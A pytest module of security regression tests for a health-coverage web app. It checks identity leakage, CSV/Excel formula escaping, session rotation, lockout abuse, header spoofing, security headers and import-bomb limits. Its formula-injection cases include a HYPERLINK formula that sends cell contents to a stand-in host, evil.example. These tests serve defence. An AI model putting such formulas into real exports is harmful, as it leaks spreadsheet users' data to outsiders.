"""What a security review of the running demo found, one test each, so that it stays found.

The threat model and the list of what is tested are in docs/security.md. The bigger walks live beside this
module: test_security_walks.py (every page a persona reaches: identities, access log, headers, bad
parameters) and test_api_fuzz.py (schemathesis against the OpenAPI document).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from openuhc.core import exports
from openuhc.rights import services as rights
from openuhc.rights.models import Case, Centre
from openuhc.rights.tests.conftest import category
from openuhc.testing.walk import crawl, readable_text

# --- 1. Complainant identity through staff messages ------------------------------------------------------------

NAME = "Ms. Wanida Secretname"
PHONE = "081-999-8877"


def _file_without_consent(client, world) -> Case:
    form = {"kind": "complaint", "province": world.province.pk, "category": category().pk, "unit": "56001",
            "subject": "Charged for medicine", "description": "I paid 300 baht for diabetes medicine.",
            "name": "", "contact": ""}
    client.post("/rights/complain/", form, follow=True)
    return Case.objects.get()


def test_words_to_a_complainant_without_consent_never_reach_the_unit(world, client_for):
    """Filed without consent; acknowledged and closed with the name and phone in the texts. The unit reads
    every page, export and API it can reach: neither the name nor the phone is anywhere."""
    case = _file_without_consent(client_for(None), world)
    assert not case.share_identity_with_unit
    staff = client_for("centre")
    staff.post(f"/rights/cases/{case.number}/acknowledge/", {"text": f"Dear {NAME}, we call you at {PHONE}."})
    staff.post(f"/rights/cases/{case.number}/note/", {"text": f"Called {NAME}", "audience": "complainant"})
    staff.post(f"/rights/cases/{case.number}/close/",
               {"outcome": "resolved", "outcome_text": f"Dear {NAME} ({PHONE}), the 300 baht were refunded."})
    case.refresh_from_db()
    assert case.is_closed and NAME in case.outcome_text
    assert NAME in staff.get(f"/rights/cases/{case.number}/").content.decode()  # staff still read it

    unit = client_for("hospital")
    reached = []
    for url, response, body in crawl(unit, ["/accounts/home/", "/rights/cases/?status=all",
                                            f"/rights/cases/{case.number}/"]):
        reached.append(url)
        text = readable_text(response, body)
        assert NAME not in text and PHONE not in text, url
    assert f"/rights/cases/{case.number}/" in reached
    page = unit.get(f"/rights/cases/{case.number}/").content.decode()
    assert "Resolved" in page  # the unit learns the outcome, not the words written to the complainant
    for url in _api_reads(unit, case):
        response = unit.get(url)
        assert response.status_code < 500, url
        assert NAME not in response.content.decode() and PHONE not in response.content.decode(), url


def _api_reads(client, case) -> list[str]:
    """Every GET of the API without a path parameter, plus the case itself."""
    schema = client.get("/api/openapi.json").json()
    plain = [f"/api{path}" if not path.startswith("/api") else path for path, ops in schema["paths"].items()
             if "get" in ops and "{" not in path]
    return [*plain, f"/api/v1/rights/cases/{case.number}", "/api/v1/rights/cases?status=all"]


def test_with_consent_the_unit_reads_the_words_to_the_complainant(world, client_for):
    case, _secret = rights.open_case(
        actor=world.users["centre"], kind="complaint", channel="hotline", category=category(), subject="s",
        description="d", centre=world.centre, unit=world.hospital_a, complainant_name=NAME, consent_to_record=True,
        share_identity_with_unit=True)
    rights.close(case, actor=world.users["centre"], outcome="resolved", outcome_text=f"Dear {NAME}, refunded.")
    assert f"Dear {NAME}, refunded." in client_for("hospital").get(f"/rights/cases/{case.number}/").content.decode()


def test_the_case_page_says_who_reads_each_text(world, client_for):
    case = _file_without_consent(client_for(None), world)
    html = client_for("centre").get(f"/rights/cases/{case.number}/").content.decode()
    assert "The unit concerned does not read it" in html
    assert "did not consent to the unit learning who they are" in html


def test_the_complainant_still_reads_the_acknowledgement_and_the_outcome(world, client_for):
    visitor = client_for(None)
    case = _file_without_consent(visitor, world)
    rights.acknowledge(case, actor=world.users["centre"], text="We have your complaint.")
    case.refresh_from_db()
    rights.close(case, actor=world.users["centre"], outcome="resolved", outcome_text="Refunded.")
    html = visitor.get("/rights/follow/case/").content.decode()
    assert "We have your complaint." in html and "Refunded." in html


# --- 2. Spreadsheet formula injection ---------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(text):
    body = b"".join(exports.csv_response("x.csv", ["hn"], [[text], [-5]]).streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[1] == ["'" + text]
    assert rows[2] == ["-5"]  # numbers stay numbers


@pytest.mark.parametrize("text", FORMULAS)
def test_excel_cells_are_text_never_formulas(text):
    book = exports.xlsx_bytes({"S": (["hn", "n"], [[text, -5]])})
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    cell = load_workbook(io.BytesIO(book)).active["A2"]
    assert cell.data_type == "s" and cell.quotePrefix
    assert cell.value == text.replace("\r", "\n")  # XML reads a stored CR back as LF
    assert load_workbook(io.BytesIO(book)).active["B2"].value == -5


def test_an_hn_sent_as_a_formula_is_text_in_the_claims_workbook(world, client_for, tmp_path):
    from openuhc.claims import services as claims
    from openuhc.claims.tests.conftest import SERVICE_DAY, clean_builder

    builder = clean_builder(world)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    a = world.people["a"]
    builder.patient(hn=evil, cid=a.citizen_id, dob=a.birth_date, sex=a.sex, hospmain="56001")
    builder.visit(hn=evil, seq="V9", on=SERVICE_DAY)
    submission = claims.submit(builder.write(tmp_path / "s"), unit_code="56001", actor=None)
    workbook = client_for("hospital").get(f"/claims/submissions/{submission.pk}/problems.xlsx")
    text = readable_text(workbook)
    assert "HYPERLINK" in text and "<f>" not in text
    report = client_for("hospital").get(f"/claims/submissions/{submission.pk}/problems.csv")
    cells = [cell for row in csv.reader(io.StringIO(readable_text(report))) for cell in row]
    assert not any(cell.startswith(exports.FORMULA_STARTS) for cell in cells)


def test_every_csv_writer_in_the_code_goes_through_the_shared_helper():
    """`csv.writer` alone writes formulas as they are: only core/exports.py may call it."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = [str(p.relative_to(root)) for p in root.rglob("*.py")
                 if "tests" not in p.parts and p.name != "exports.py"
                 and re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))]
    assert offenders == []


# --- 6. Session on the public complaint form ---------------------------------------------------------------------

def test_filing_a_complaint_rotates_the_session(world, client_for):
    visitor = client_for(None)
    visitor.get("/rights/complain/")
    visitor.session.save()
    planted = visitor.session.session_key
    attacker = client_for(None)
    attacker.cookies["sessionid"] = planted  # the same session, planted on the victim's browser
    _file_without_consent(visitor, world)
    assert visitor.session.session_key != planted
    assert attacker.get("/rights/follow/case/").status_code == 302  # sent to the number-and-secret form


# --- 10. Complaints reach the right centre -------------------------------------------------------------------------

def test_a_provinces_complaints_go_to_its_peoples_centre_before_a_section_50_5_unit(world, client_for):
    unit_50_5 = Centre.objects.create(code="A5056", name_th="หน่วย 50(5) พะเยา", kind=Centre.Kind.SECTION_50_5,
                                      region=world.province.region)
    unit_50_5.provinces.set([world.province])
    assert rights.centre_for_province(world.province) == world.centre
    case = _file_without_consent(client_for(None), world)
    assert case.centre == world.centre
    world.centre.is_active = False
    world.centre.save()
    assert rights.centre_for_province(world.province) == unit_50_5


# --- 3. Login lock-out as a weapon ------------------------------------------------------------------------------

def _login(username: str, password: str, **meta):
    from django.test import Client

    return Client().post("/accounts/login/", {"username": username, "password": password}, **meta)


@pytest.fixture
def lockout(settings):
    settings.AXES_ENABLED = True
    settings.AXES_FAILURE_LIMIT = 3
    return settings


def test_knowing_a_username_does_not_let_a_stranger_lock_its_owner_out(world, lockout):
    from openuhc.testing.world import PASSWORD

    for _ in range(5):
        _login("national", "wrong", REMOTE_ADDR="198.51.100.66")  # the attacker's address
    assert _login("national", PASSWORD, REMOTE_ADDR="198.51.100.66").status_code == 429
    assert _login("national", PASSWORD, REMOTE_ADDR="203.0.113.10").status_code == 302  # the owner, elsewhere


def test_failures_from_one_address_do_not_lock_everyone_behind_it(world, lockout):
    from openuhc.testing.world import PASSWORD

    for _ in range(5):
        _login("hospital", "wrong", REMOTE_ADDR="10.0.0.1")
    assert _login("national", PASSWORD, REMOTE_ADDR="10.0.0.1").status_code == 302


def test_behind_a_trusted_proxy_each_client_has_its_own_lock(world, lockout):
    from openuhc.testing.world import PASSWORD

    lockout.OPENUHC_TRUSTED_PROXIES = ["10.0.0.0/8"]
    lockout.OPENUHC_CLIENT_IP_HEADER = "X-Forwarded-For"
    proxy = {"REMOTE_ADDR": "10.0.0.5"}
    for _ in range(3):
        _login("national", "wrong", HTTP_X_FORWARDED_FOR="198.51.100.66", **proxy)
    assert _login("national", PASSWORD, HTTP_X_FORWARDED_FOR="198.51.100.66", **proxy).status_code == 429
    assert _login("national", PASSWORD, HTTP_X_FORWARDED_FOR="203.0.113.10", **proxy).status_code == 302
    # a client that writes its own X-Forwarded-For gets no new address: the proxy appends the real one
    spoofed = "1.2.3.4, 198.51.100.66"
    assert _login("national", PASSWORD, HTTP_X_FORWARDED_FOR=spoofed, **proxy).status_code == 429


def test_the_header_is_not_believed_from_anyone_but_a_trusted_proxy(rf, settings):
    from openuhc.core.clientip import client_ip

    settings.OPENUHC_TRUSTED_PROXIES = ["10.0.0.0/8"]
    settings.OPENUHC_CLIENT_IP_HEADER = "X-Forwarded-For"
    direct = rf.get("/", REMOTE_ADDR="198.51.100.66", HTTP_X_FORWARDED_FOR="203.0.113.10")
    assert client_ip(direct) == "198.51.100.66"
    chain = rf.get("/", REMOTE_ADDR="10.0.0.5", HTTP_X_FORWARDED_FOR="203.0.113.10, 10.0.0.9")
    assert client_ip(chain) == "203.0.113.10"
    settings.OPENUHC_CLIENT_IP_HEADER = ""
    assert client_ip(chain) == "10.0.0.5"


def test_an_operator_unlocks_an_account_from_the_command_line(world, lockout):
    from django.core.management import call_command

    from openuhc.testing.world import PASSWORD

    for _ in range(3):
        _login("national", "wrong", REMOTE_ADDR="10.0.0.1")
    assert _login("national", PASSWORD, REMOTE_ADDR="10.0.0.1").status_code == 429
    out = io.StringIO()
    call_command("users", "locked", stdout=out)
    assert "national\t10.0.0.1" in out.getvalue()
    call_command("users", "unlock", "national", stdout=out)
    assert "Unlocked national" in out.getvalue()
    assert _login("national", PASSWORD, REMOTE_ADDR="10.0.0.1").status_code == 302


# --- 8. Headers -------------------------------------------------------------------------------------------------

def test_pages_carry_a_strict_csp_and_a_permissions_policy(world, client_for):
    response = client_for("national").get("/accounts/home/")
    csp = response["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp and "unsafe-eval" not in csp
    assert "frame-ancestors 'none'" in csp and "object-src 'none'" in csp
    assert "camera=()" in response["Permissions-Policy"]
    assert response["X-Frame-Options"] == "DENY"
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("url", ["/people/1/", "/people/access-log/?start=1/11/2569&end=30/11/2569&format=csv",
                                 "/api/v1/persons/1", "/claims/"])
def test_personal_data_pages_exports_and_api_are_not_stored_by_caches(world, client_for, url):
    url = url.replace("/1", f"/{world.people['a'].pk}", 1) if "persons/1" in url or "people/1" in url else url
    response = client_for("national").get(url)
    assert response.status_code == 200, url
    assert response["Cache-Control"] == "no-store"


def test_static_files_stay_cacheable(client):
    response = client.get("/static/core/app.css")
    assert response.status_code == 200
    assert "no-store" not in response.get("Cache-Control", "")


def test_no_template_runs_inline_script_or_inline_style():
    """The CSP allows scripts and styles from this site only: an inline handler or style would be blocked."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    inline = re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*type=\"application/json\")[^>]*>|\son[a-z]+=|style=|"
                        r"javascript:|hx-on")
    offenders = [f"{p.relative_to(root)}: {m.group(0)}" for p in root.rglob("templates/**/*.html")
                 if "pdf" not in p.name for m in inline.finditer(p.read_text(encoding="utf-8"))]
    assert offenders == []


def test_check_deploy_is_clean_with_the_documented_production_settings(tmp_path):
    """The README's production settings, in a fresh process: `manage.py check --deploy` reports nothing."""
    import os
    import subprocess
    import sys

    env = {**os.environ, "OPENUHC_DATA_DIR": str(tmp_path), "OPENUHC_SECRET_KEY": "x" * 60 + "-production-key",
           "OPENUHC_ALLOWED_HOSTS": "uhc.example.org", "OPENUHC_SECURE_COOKIES": "1",
           "OPENUHC_CSRF_TRUSTED_ORIGINS": "https://uhc.example.org", "OPENUHC_PROXY_SSL_HEADER": "X-Forwarded-Proto",
           "OPENUHC_DEBUG": "0", "DJANGO_SETTINGS_MODULE": "openuhc.settings"}
    env.pop("OPENUHC_DATABASE_URL", None)
    result = subprocess.run([sys.executable, "-m", "django", "check", "--deploy", "--fail-level", "WARNING"],
                            env=env, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "System check identified no issues" in result.stdout


# --- 5. Import bombs --------------------------------------------------------------------------------------------

def _workbook(path, shared: list[str], rows: list[list[int]]) -> None:
    """A minimal .xlsx: one sheet whose cells refer to shared strings by number."""
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    sheet_rows = "".join(f'<row r="{i + 1}">' + "".join(f'<c t="s"><v>{v}</v></c>' for v in row) + "</row>"
                         for i, row in enumerate(rows))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("xl/workbook.xml", f'<workbook {ns} {rel}><sheets><sheet name="S" sheetId="1" r:id="rId1"/>'
                                         "</sheets></workbook>")
        book.writestr("xl/_rels/workbook.xml.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/package/'
                      '2006/relationships"><Relationship Id="rId1" Target="worksheets/sheet1.xml" Type="x"/>'
                      "</Relationships>")
        book.writestr("xl/sharedStrings.xml", f"<sst {ns}>" + "".join(f"<si><t>{s}</t></si>" for s in shared)
                      + "</sst>")
        book.writestr("xl/worksheets/sheet1.xml", f"<worksheet {ns}><sheetData>{sheet_rows}</sheetData></worksheet>")


def _limit(key: str, value: int) -> None:
    from datetime import date

    from openuhc.core import params

    params.set_value(key, value, valid_from=date(2000, 1, 1))


def test_a_workbook_with_more_shared_strings_than_allowed_is_refused_before_its_rows(db, tmp_path):
    from openuhc.core.errors import DomainError
    from openuhc.core.xlsx import XlsxReader

    _limit("import.xlsx_max_cells", 1000)
    _workbook(tmp_path / "bomb.xlsx", [f"s{i}" for i in range(1001)], [[0, 1]])
    with pytest.raises(DomainError) as refused, XlsxReader(tmp_path / "bomb.xlsx") as book:
        next(book.rows())
    assert refused.value.code == "xlsx_too_many_cells"


def test_a_workbook_that_unpacks_beyond_the_limit_is_refused_unread(db, tmp_path):
    from openuhc.core.errors import DomainError
    from openuhc.core.xlsx import XlsxReader

    _limit("import.xlsx_max_unpacked_mb", 1)
    _workbook(tmp_path / "big.xlsx", ["x" * 1000] * 1200, [[0]])  # 1.2 MB of text, a few KB zipped
    with pytest.raises(DomainError) as refused:
        XlsxReader(tmp_path / "big.xlsx")
    assert refused.value.code == "xlsx_too_big"


def test_a_cell_longer_than_allowed_is_refused_in_excel_and_csv(db, tmp_path):
    from openuhc.core.errors import DomainError
    from openuhc.core.importing import TableFile

    _limit("import.max_cell_chars", 50)
    _workbook(tmp_path / "long.xlsx", ["code", "y" * 51], [[0], [1]])
    (tmp_path / "long.csv").write_text("code\n" + "y" * 51 + "\n", encoding="utf-8")
    for name in ("long.xlsx", "long.csv"):
        with pytest.raises(DomainError) as refused:
            list(TableFile(tmp_path / name).rows())
        assert refused.value.code == "import_cell_too_long", name


def test_a_million_and_a_half_shared_strings_are_read_without_holding_the_workbook(db, tmp_path):
    """The reviewer's bomb (1.5 million shared strings in a few MB): refused by the default cell limit scaled to
    the test, and the reader's memory stays that of the strings themselves (benchmarks/xlsx_bomb.py measures
    the whole file against openpyxl)."""
    import tracemalloc

    from openuhc.core.xlsx import XlsxReader

    _workbook(tmp_path / "bomb.xlsx", [str(i) for i in range(150_000)], [[0, 1, 2]])
    tracemalloc.start()
    with XlsxReader(tmp_path / "bomb.xlsx") as book:
        assert next(book.rows()) == ["0", "1", "2"]
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 40 * 1024 * 1024, peak  # 150,000 short strings; openpyxl's tree took several times this


def test_an_upload_over_the_limit_is_refused_before_it_is_stored(world, client_for, settings):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from openuhc.claims.models import Submission

    settings.OPENUHC_MAX_UPLOAD_BYTES = 1024 * 1024
    client = client_for("hospital")
    declared = client.post("/claims/upload/", {"unit": world.hospital_a.pk,
                                               "file": SimpleUploadedFile("big.zip", b"0" * (3 * 1024 * 1024))})
    assert declared.status_code == 413 and "larger than the allowed 1 MB" in declared.content.decode()
    # within the slack for form fields, so the declared length passes: the handler stops it as it arrives
    arriving = client.post("/claims/upload/", {"unit": world.hospital_a.pk,
                                               "file": SimpleUploadedFile("big.zip", b"0" * (1536 * 1024))})
    assert arriving.status_code == 413
    api = client.post("/api/v1/claims/submissions", {"unit": "56001",
                                                     "file": SimpleUploadedFile("big.zip", b"0" * (1536 * 1024))})
    assert api.status_code == 413 and api.json()["code"] == "upload_too_large"
    assert not Submission.objects.exists()
    media = settings.MEDIA_ROOT
    assert not any(p.is_file() for p in media.rglob("*")) if media.exists() else True


def test_imports_and_claim_checks_started_from_a_page_run_in_a_worker_process(
        world, client_for, settings, monkeypatch, django_capture_on_commit_callbacks):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.core.management import call_command

    from openuhc.claims.models import Submission
    from openuhc.claims.tests.conftest import clean_builder
    from openuhc.core import jobs
    from openuhc.core.models import Job

    settings.OPENUHC_JOBS_MODE = "process"
    started = []
    monkeypatch.setattr(jobs, "start_worker", started.append)
    with django_capture_on_commit_callbacks(execute=True):
        client_for("national").post("/imports/", {"kind": "units", "file": SimpleUploadedFile(
            "units.csv", b"code,name_th\n")})
        client_for("hospital").post("/claims/upload/", {"unit": world.hospital_a.pk, "file": SimpleUploadedFile(
            "c.zip", clean_builder(world).zip_bytes())})
    import_job = Job.objects.get(kind="import:units")
    claims_job = Job.objects.get(kind="claims:submission")
    assert started == [import_job.pk, claims_job.pk]  # nothing ran in this (the web) process
    assert import_job.status == claims_job.status == "queued"
    for job in (import_job, claims_job):  # what the worker process runs
        call_command("jobs", "run", str(job.pk), stdout=io.StringIO())
        job.refresh_from_db()
        assert job.status == "succeeded", (job.kind, job.error_message)
    assert Submission.objects.get().status == "processed"


# --- 9. Interrupted submissions -----------------------------------------------------------------------------------

def _dead_worker() -> str:
    import socket
    import subprocess
    import sys

    finished = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True,
                              check=True)
    return f"{socket.gethostname()}:{finished.stdout.strip()}:dead"


def test_a_submission_whose_checker_died_is_marked_failed_and_its_file_dropped(world, tmp_path):
    from openuhc.claims import services as claims
    from openuhc.claims.models import Submission
    from openuhc.claims.tests.conftest import clean_builder

    submission = claims.receive(source=clean_builder(world).write(tmp_path / "s"), unit=world.hospital_a, actor=None)
    path = submission.original.path
    Submission.objects.filter(pk=submission.pk).update(worker=_dead_worker())  # killed in the middle
    alive = claims.receive(source=clean_builder(world).write(tmp_path / "t"), unit=world.hospital_a, actor=None)
    Submission.objects.filter(pk=alive.pk).update(worker=claims.owner_id())  # this process: still working
    found = claims.recover_interrupted()
    assert [s.pk for s in found] == [submission.pk]
    submission.refresh_from_db()
    assert submission.status == "failed" and "interrupted" in submission.error_message
    assert not submission.original and not __import__("os").path.exists(path)
    assert Submission.objects.get(pk=alive.pk).status == "received"


def test_a_storing_check_does_not_overwrite_a_submission_marked_failed_meanwhile(world, tmp_path):
    from openuhc.claims import services as claims
    from openuhc.claims.models import Claim, Submission
    from openuhc.claims.tests.conftest import clean_builder
    from openuhc.core.errors import DomainError

    submission = claims.receive(source=clean_builder(world).write(tmp_path / "s"), unit=world.hospital_a, actor=None)
    Submission.objects.filter(pk=submission.pk).update(status="failed")
    with pytest.raises(DomainError):
        claims.process_submission(submission, actor=None)
    assert not Claim.objects.exists() and Submission.objects.get(pk=submission.pk).status == "failed"


def test_a_refused_upload_keeps_its_report_but_not_its_file(world, client_for):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from openuhc.claims.models import Submission

    client_for("hospital").post("/claims/upload/", {"unit": world.hospital_a.pk, "file": SimpleUploadedFile(
        "not-claims.zip", b"MZ\x90\x00 this is not a zip at all" * 1000)})
    submission = Submission.objects.get()
    assert submission.status == "unusable" and submission.problems.exists()
    assert submission.sha256 and submission.size > 0 and not submission.original
